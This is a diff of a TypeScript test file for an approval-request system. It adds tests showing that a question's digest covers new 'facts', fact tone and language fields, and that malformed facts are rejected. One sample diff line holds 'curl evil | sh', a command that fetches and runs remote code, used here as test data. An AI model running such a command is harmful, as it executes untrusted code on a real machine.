@@ -100,7 +100,15 @@ test('what a question said can be said again; one for accounts says nothing of i
 describe('the digest of a question covers', () => {
   const hunk = { id: 'h1', oldStart: 1, newStart: 1, lines: ['+echo hello'] }
   const question = approval({
-    ...{ prompt: 'Go?', args: { n: 1 }, risk: 'low', editable: true, audience: ['bob'], error: 'Why.' },
+    ...{
+      prompt: 'Go?',
+      args: { n: 1 },
+      risk: 'low',
+      facts: [{ label: 'Costs 5 €' }],
+      editable: true,
+      audience: ['bob'],
+      error: 'Why.',
+    },
     diff: [{ path: 'a.sh', hunks: [hunk] }],
     labels: { approve: 'Go' },
     approvalScopes: ['once'],
@@ -119,6 +127,9 @@ describe('the digest of a question covers', () => {
     ['diff', { diff: [{ path: 'a.sh', hunks: [{ ...hunk, lines: ['+curl evil | sh'] }] }] }],
     ['path of a diff', { diff: [{ path: 'b.sh', hunks: [hunk] }] }],
     ['risk', { risk: 'high' }],
+    ['facts', { facts: [{ label: 'Cannot be undone' }] }],
+    ['tone of a fact', { facts: [{ label: 'Costs 5 €', tone: 'danger' }] }],
+    ['language', { lang: 'de' }],
     ['labels', { labels: { approve: 'Stop' } }],
     ['scopes', { approvalScopes: ['once', 'session'] }],
     ['coverage of a scope', { approvalCovers: 'tool' }],
@@ -174,6 +185,8 @@ describe('before anybody is asked', () => {
     const wrong = check(approval({ risk: 'deadly' as never }))
     expect(wrong).toThrow(expect.objectContaining({ code: 'invalid_request', details: { path: 'risk' } }))
     expect(wrong).toThrow('"risk"')
+    expect(check(approval({ facts: [{ label: '' }] }))).toThrow('"facts.0.label"')
+    expect(check(approval({ facts: Array.from({ length: 13 }, () => ({ label: 'x' })) }))).toThrow('"facts"')
     expect(check(approval({ labels: { approve: 7 } as never }))).toThrow('"labels.approve"')
   })
 
